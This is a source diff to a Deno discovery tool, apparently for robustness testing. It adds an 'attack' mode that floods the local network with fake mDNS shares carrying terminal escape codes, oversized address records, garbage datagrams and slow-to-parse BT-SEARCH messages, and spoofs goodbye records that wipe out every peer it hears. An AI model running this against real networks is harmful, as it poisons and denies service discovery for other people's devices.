@@ -3,11 +3,21 @@
  * datagram to the groups of discovery. `lsd INFO_HASH` prints the peers that local
  * service discovery reports; `flood INFO_HASH,... COUNT` sends announces as fast
  * as it can. `share NAME` advertises a share until SIGTERM; `find [ADDRESS]` prints the
- * shares that it finds and `resolve NAME` the addresses of a host.
+ * shares that it finds and `resolve NAME` the addresses of a host. `attack` sends
+ * shares that are not there, messages that are slow to read, and goodbyes for all
+ * that it hears, 200 a second until it is ended.
  *
  * @module
  */
+import { delay } from "@std/async/delay";
+import { ProtocolError } from "../../lib/base/errors.ts";
+import {
+  decodeDnsMessage,
+  type DnsRecord,
+  encodeDnsMessage,
+} from "../../lib/discovery/dns_message.ts";
 import { openLocalServiceDiscovery } from "../../lib/discovery/local_service_discovery.ts";
+import { SERVICE, shareRecords } from "../../lib/discovery/share_records.ts";
 import {
   advertiseShares,
   findShares,
@@ -115,6 +125,67 @@ async function find(hostAddress: string | undefined): Promise<void> {
   });
 }
 
+/** A response with records; of other types than the codec writes there are none. */
+function response(answers: readonly DnsRecord[]): Uint8Array<ArrayBuffer> {
+  return encodeDnsMessage({
+    ...{ isResponse: true, questions: [], answers, proposed: [] },
+  });
+}
+
+/** The messages of an attack, over and over. */
+function* attacks(): Generator<readonly [Uint8Array, number]> {
+  const blanks = " ".repeat(1340);
+  const slow = ENCODER.encode(
+    `BT-SEARCH * HTTP/1.1\r\nPort:${blanks}a\nb\r\n\r\n`,
+  );
+  for (let number = 0;; number++) {
+    const share = {
+      ...{ id: `lie${number}`, name: `lie ${number}`, sizeBytes: 1, port: 22 },
+      ...{ path: "/torrents/a.torrent", hostName: "\x1b[2J".repeat(20) },
+    };
+    const instance = `lie-${number}.${SERVICE}`;
+    yield [response(shareRecords(share, { instance, host: "h.local" })), 5353];
+    const addresses = Array.from({ length: 250 }, (_, index): DnsRecord => ({
+      ...{ name: "h.local", type: "A", ttl: 9 },
+      data: `10.${number & 255}.1.${index + 1}`,
+    }));
+    yield [response(addresses), 5353];
+    yield [crypto.getRandomValues(new Uint8Array(900)), 5353];
+    yield [slow, 6771];
+  }
+}
+
+async function attack(): Promise<void> {
+  const own = Deno.networkInterfaces().find(({ family, name }) =>
+    family === "IPv4" && name !== "lo"
+  )!;
+  const heard = open("0.0.0.0", 5353);
+  await heard.joinMulticastV4(GROUPS[0].ipv4, own.address);
+  const socket = open(own.address, 5353);
+  const send = async (datagram: Uint8Array, port: number): Promise<void> => {
+    const { ipv4: hostname } = GROUPS.find((group) => group.port === port)!;
+    await socket.send(datagram, { transport: "udp", hostname, port });
+  };
+  const takeLeave = async (): Promise<void> => {
+    for await (const [datagram, from] of heard) {
+      if ((from as Deno.NetAddr).hostname === own.address) continue;
+      try {
+        const { isResponse, answers } = decodeDnsMessage(datagram);
+        const gone = answers.map((record) => ({ ...record, ttl: 0 }));
+        if (isResponse) await send(response(gone), 5353);
+      } catch (error) {
+        if (!(error instanceof ProtocolError)) throw error;
+      }
+    }
+  };
+  void takeLeave();
+  print("ready");
+  for (const [datagram, port] of attacks()) {
+    await send(datagram, port);
+    await delay(5);
+  }
+}
+
 if (import.meta.main) {
   const [mode, argument = "", count] = Deno.args;
   switch (mode) {
@@ -126,6 +197,9 @@ if (import.meta.main) {
       break;
     case "share":
       await share(argument);
+      break;
+    case "attack":
+      await attack();
       break;
     case "find":
       await find(argument || undefined);
